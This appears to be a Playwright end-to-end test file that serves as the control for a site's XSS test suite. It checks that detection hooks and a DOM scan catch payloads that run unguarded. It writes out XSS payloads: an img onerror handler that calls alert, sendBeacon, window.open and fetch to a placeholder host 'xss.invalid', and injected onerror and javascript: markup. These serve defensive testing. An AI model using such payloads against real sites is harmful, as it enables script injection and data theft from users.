import { e2eBaseUrl } from './e2e-env.ts';
import { expect, unguardedTest as test } from './fixtures.ts';
import { CONSOLE_MARKER, xssCorpus } from './xss-corpus.ts';
import { XssWalk } from './xss-helpers.ts';

// The control of the XSS suite (xss.spec.ts): its hooks see a payload that runs, the corpus does run
// where nothing guards it, and the DOM scan sees its markup. Without these, zero hits would prove nothing.

// Without the console guard of fixtures.ts: the unguarded corpus throws in its frames, as it should.
test('the hooks catch a payload that runs, and the corpus runs where nothing guards it', async ({ page }) => {
  const walk = await XssWalk.start(page, e2eBaseUrl);
  // A page of the test server's origin without the site's CSP: each payload in its own sandboxed frame.
  const frames = xssCorpus
    .map(
      (p) =>
        `<iframe sandbox="allow-scripts allow-same-origin allow-modals allow-forms allow-popups" srcdoc="${p.text.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"></iframe>`,
    )
    .join('');
  await page.route(`${e2eBaseUrl}/__xss-control`, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><title>control</title><body>
        <img src=x onerror="alert(1);console.log('${CONSOLE_MARKER}');navigator.sendBeacon('//xss.invalid/b');window.open('//xss.invalid/o');fetch('//xss.invalid/f').catch(()=>{})">
        ${frames}</body>`,
    }),
  );
  await page.goto('/__xss-control');
  await expect.poll(() => new Set(walk.hits.map((h) => h.kind)).size).toBeGreaterThanOrEqual(6);
  const kinds = new Set(walk.hits.map((h) => h.kind));
  for (const kind of ['alert', 'console.log', 'sendBeacon', 'window.open', 'fetch', 'request', 'frame']) {
    expect(kinds, `the ${kind} hook`).toContain(kind);
  }
  // Which payloads ran: every sink names its payload's number.
  await page.waitForTimeout(1500);
  const ran = new Set(
    walk.hits.flatMap((h) =>
      /^(alert|confirm|prompt|print)$/.test(h.kind)
        ? [h.detail]
        : [...h.detail.matchAll(/(?:FIRED|\/[fbiolns])(\d+)/g)].map((m) => m[1]),
    ),
  );
  const idle = xssCorpus.filter((p) => !ran.has(String(Number(p.id.slice(1)))));
  test.info().annotations.push({
    type: 'control',
    description: `${xssCorpus.length - idle.length} of ${xssCorpus.length} payloads ran unguarded; idle: ${idle.map((p) => p.id).join(' ')}`,
  });
  // The rest need a click, a sanitizer's round trip or a script context to run.
  expect(ran.size).toBeGreaterThanOrEqual(50);
  await walk.check('control');
  expect(walk.findings.length, 'the DOM scan sees the unguarded markup').toBeGreaterThan(0);
});

test('under the site’s own CSP, markup that slipped through is still seen', async ({ page }) => {
  const walk = await XssWalk.start(page, e2eBaseUrl);
  await walk.goto('/rules');
  // What a render through innerHTML would do with a stored payload.
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)><a href="javascript:alert(2)">x</a>');
  });
  await walk.check('/rules with injected markup');
  expect(walk.hits.map((h) => h.kind)).toContain('csp');
  expect(walk.findings.length).toBe(2);
});
